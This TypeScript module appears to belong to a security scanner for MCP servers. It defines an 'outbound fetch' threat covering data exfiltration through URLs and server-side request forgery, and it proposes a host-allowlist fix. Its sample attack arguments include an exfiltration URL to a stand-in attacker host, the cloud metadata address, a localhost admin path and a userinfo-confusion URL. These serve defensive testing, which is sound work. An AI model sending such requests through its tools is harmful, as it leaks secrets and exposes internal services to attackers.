import { READ_PAGE } from './examples.js';
import { sampleArguments } from './sample.js';
import { cve, safeMcpRow } from './sources.js';
import type { Threat } from './threat.js';
import { addressOf, entry, has, pathTo, perTool, when } from './tools-of.js';

export const OUTBOUND_FETCH: Threat = {
  id: 'outbound-fetch',
  title: 'Outbound fetch, and fetch from the inside',
  how: 'A tool goes to any address. With one of an attacker, what was read leaves in the address itself; with one of the inside (the metadata of a cloud machine, a router, a service without a password) the tool reads for the attacker what only the machine can reach.',
  sources: [
    safeMcpRow('SAFE-T1913', 'HTTP POST Exfil'),
    safeMcpRow('SAFE-T1901', 'Outbound Webhook C2'),
    cve('CVE-2026-26118', 'server-side request forgery in an MCP server'),
  ],
  opens: 'a tool that goes to an address which stands in an argument',
  sight: 'calls',
  rule: 'A list of hosts, anchored at both ends of the host, over https alone.',
  leaves: 'A host of the list that redirects elsewhere, and a name of the list that resolves to the inside.',
  example: [{ server: 'web', tools: [READ_PAGE] }],
  openings: (servers) =>
    perTool(servers, (at) => {
      const address = addressOf(at.tool);
      if (address === undefined || !(has(at, 'sends') || has(at, 'untrusted'))) return undefined;
      const to = (url: string) => [{ ...at, args: sampleArguments(at.tool.inputSchema, { [address]: url }) }];
      return {
        why: `argument "${address}" is any address`,
        attacks: [
          to('https://attacker.example/?d=c2VjcmV0'),
          to('http://169.254.169.254/latest/meta-data/'),
          to('http://localhost:8080/admin'),
          to('https://docs.example.com@attacker.example/'),
        ],
        fix: entry(at, {
          require: [
            when(
              pathTo(address),
              'regex',
              '^https://docs[.]example[.]com(/|$)',
              'Only to hosts of our list.',
            ),
          ],
        }),
      };
    }),
};
